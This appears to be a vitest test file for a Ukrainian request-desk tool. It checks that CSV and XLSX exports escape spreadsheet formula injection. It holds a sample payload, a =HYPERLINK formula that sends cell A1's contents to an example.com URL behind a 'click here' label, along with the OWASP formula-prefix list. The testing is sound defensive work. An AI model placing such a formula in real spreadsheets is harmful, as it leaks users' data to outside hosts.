/** Exports are safe to open (issue 8, finding 8): no cell a requester typed runs as a formula. */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../src/shared/csvSafe';
import { cli } from '../helpers/cli';
import { sampleRequest, tempDir } from '../helpers/tempDb';

const dir = tempDir('rd-csvsafe-');
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const evil = '=HYPERLINK("http://example.com/x?"&A1,"Натисніть")';

describe('formula injection', () => {
  it('neutralises what OWASP lists and nothing else', () => {
    for (const s of ['=1+1', '+380671234567', '-2+3', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    for (const s of ['Петренко', '', '1=1', "'=вже"]) expect(neutraliseFormula(s)).toBe(s);
  });

  it('the CSV journal shows a formula-like name as text; the XLSX keeps it a string cell', async () => {
    const db = join(dir, 'desk.sqlite');
    const r = await cli(['register', '--db', db, '--input', '-', '--json'], JSON.stringify(sampleRequest({ requesterName: evil, description: '@SUM(1;2)' })));
    expect(r.code).toBe(0);
    const csv = join(dir, 'j.csv');
    expect((await cli(['journal', '--db', db, '--month', '2026-11', '--format', 'csv', '--out', csv])).code).toBe(0);
    const rows = parse(readFileSync(csv, 'utf8').replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][];
    const header = rows.findIndex((x) => x.includes('Запитувач'));
    const line = rows[header + 1]!;
    expect(line[rows[header]!.indexOf('Запитувач')]).toBe(`'${evil}`);
    expect(line[rows[header]!.indexOf('Зміст запиту')]).toBe("'@SUM(1;2)");
    for (const cell of rows.slice(header + 1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const xlsx = join(dir, 'j.xlsx');
    expect((await cli(['journal', '--db', db, '--month', '2026-11', '--format', 'xlsx', '--out', xlsx])).code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    const ws = wb.worksheets[0]!;
    let found = 0;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (cell.value === evil) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          found++;
        }
      }),
    );
    expect(found).toBe(1);
  });
});
